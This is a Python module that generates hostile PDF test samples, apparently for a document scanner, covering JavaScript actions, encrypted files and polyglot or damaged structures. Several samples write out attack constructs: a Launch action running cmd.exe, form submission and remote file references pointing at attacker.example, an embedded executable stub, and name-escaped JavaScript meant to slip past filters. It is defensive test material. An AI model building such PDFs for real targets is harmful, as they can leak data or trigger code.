"""PDF that acts, carries files, needs a password, or hides what it is."""
import zlib

import pdf
import prose

ACT = "active_content"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def add_to(collection):
    """Adds them all."""
    for family in (_pdf, _encrypted_pdf, _hidden_pdf):
        for name, data, *flaws in family():
            collection.hostile(family.__name__[1:], name, data, *flaws)


def _both(name, bodies, *flaws):
    """In the old way and the new, where the objects are packed."""
    yield f"{name}.pdf", pdf.classic(bodies), *flaws
    yield f"{name} packed.pdf", pdf.modern(bodies), *flaws


def _pdf():
    roots = {
        "script at opening": b"/OpenAction" + SCRIPT,
        "script in names": b"/Names<</JavaScript<</Names[(a)" + SCRIPT + b"]>>>>",
        "events": b"/AA<</WC<</S/Named/N/Print>>>>",
        "form XFA": b"/AcroForm<</Fields[]/XFA 7 0 R>>",
        "launch": b"/OpenAction<</S/Launch/F(cmd.exe)>>",
        "submit": b"/OpenAction<</S/SubmitForm/F(https://attacker.example/)>>",
        "import": b"/OpenAction<</S/ImportData/F(a.fdf)>>",
        "other file": b"/OpenAction<</S/GoToE/F(a.pdf)>>",
        "remote file": b"/OpenAction<</S/GoToR/F(\\\\\\\\attacker.example\\\\a.pdf)>>",
        "embedded files": b"/Names<</EmbeddedFiles<</Names[]>>>>",
        "escaped script": b"/OpenAction<</S/J#61vaScript/JS(x)>>",
        "escaped more": b"/OpenAction<</#53/#4a#61#76#61#53#63#72#69#70#74/#4a#53(x)>>",
    }
    for name, root in roots.items():
        yield from _both(name, pdf.objects(root=root), ACT)
    pages = {
        "rich media": b"/Annots[<</Type/Annot/Subtype/RichMedia>>]",
        "page event": b"/AA<</O" + SCRIPT + b">>",
        "rendition": b"/Annots[<</Type/Annot/A<</S/Rendition>>>>]",
        "3D": b"/Annots[<</Type/Annot/Subtype/3D>>]",
        "field": b"/Annots[<</Type/Annot/Subtype/Widget/AA<</K" + SCRIPT + b">>>>]",
        "link that launches": b"/Annots[<</Subtype/Link/A<</S/Launch/Win<</F(a.exe)>>>>>>]",
    }
    for name, page in pages.items():
        yield from _both(name, pdf.objects(page=page), ACT)
    more = {
        "script by reference": [b"<</S/JavaScript/JS 7 0 R>>", pdf.stream(b"app.alert(1)")],
        "key only": [b"<</S/Other/JS(x)>>"],
        "embedded file": [pdf.stream(b"MZ", b"/Type/EmbeddedFile")],
        "file by key": [b"<</F(a.exe)/EF<</F 9 0 R>>>>"],
        "stream elsewhere": [pdf.stream(b"x", b"/F(\\\\\\\\attacker.example\\\\a)")],
    }
    for name, bodies in more.items():
        yield from _both(name, pdf.objects(more=bodies), ACT)
    yield "changed to act.pdf", pdf.updated(pdf.classic(pdf.objects()), 1, b"<</Type/Catalog/Pages 2 0 R/OpenAction%s>>" % SCRIPT), ACT


def _encrypted_pdf():
    body = b"<</Filter/Standard/V 2/R 3/Length 128/P -44/O<%s>/U<%s>>>" % (b"00" * 32, b"11" * 32)
    bodies = pdf.objects(more=[body])
    key = b"/Encrypt 6 0 R/ID[<00><00>]"
    yield "password.pdf", pdf.classic(bodies, trailer=key), "encrypted"
    yield "password packed.pdf", pdf.modern(bodies, trailer=key), "encrypted"
    yield "password within.pdf", pdf.classic(pdf.objects(), trailer=b"/Encrypt " + body), "encrypted"
    noise = pdf.stream(prose.noise(500), b"/Filter/FlateDecode", packed=False)
    yield "password and noise.pdf", pdf.classic(pdf.objects(more=[body, noise]), trailer=key), "encrypted"
    crypt = pdf.stream(b"x", b"/Filter[/Crypt/FlateDecode]", packed=False)
    yield "own key.pdf", pdf.classic(pdf.objects(more=[crypt])), "encrypted"


def _hidden_pdf():
    whole = pdf.classic(pdf.objects())
    inner = b"9 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    yield "object within a stream.pdf", pdf.classic(pdf.objects(more=[pdf.stream(inner, packed=False)])), "polyglot"
    yield "object within a text.pdf", pdf.classic(pdf.objects(root=b"/Note(" + inner + b")")), "polyglot"
    yield "object within a comment.pdf", whole.replace(b"1 0 obj", b"% 9 0 obj <</A 1>> endobj\n1 0 obj", 1), "polyglot"
    yield "words between objects.pdf", whole.replace(b"2 0 obj", b"words here\n2 0 obj", 1), "damaged", "polyglot"
    yield "long comment.pdf", whole.replace(b"2 0 obj", b"%" + b"x" * 9_000 + b"\n2 0 obj", 1), "polyglot"
    yield "PDF within.pdf", pdf.classic(pdf.objects(more=[pdf.stream(whole)])), "hidden_file"
    yield "PDF within, plain.pdf", pdf.classic(pdf.objects(more=[pdf.stream(whole, packed=False)])), "hidden_file", "polyglot"
    yield "no pages.pdf", pdf.classic([b"<</Type/Catalog>>"]), "damaged"
    yield "unknown filter.pdf", pdf.classic(pdf.objects(more=[pdf.stream(b"x", b"/Filter/Own", packed=False)])), "damaged"
    broken = zlib.compress(b"x" * 999)
    broken = broken[:4] + b"\xff\xff" + broken[6:]
    yield "broken packing.pdf", pdf.classic(pdf.objects(more=[pdf.stream(broken, b"/Filter/FlateDecode", packed=False)])), "damaged"
    late = pdf.objects(more=[b"<</Type/ObjStm/N 1/First 4>>\nstream\n1 0 <</S/JavaScript>>\nendstream"])
    yield "objects not packed.pdf", pdf.classic(late), ACT
    named = [pdf.stream(b"1 0 <</S/JavaScript>>", b"/N 1/First 4")]
    yield "objects without type.pdf", pdf.classic(pdf.objects(more=named)), ACT
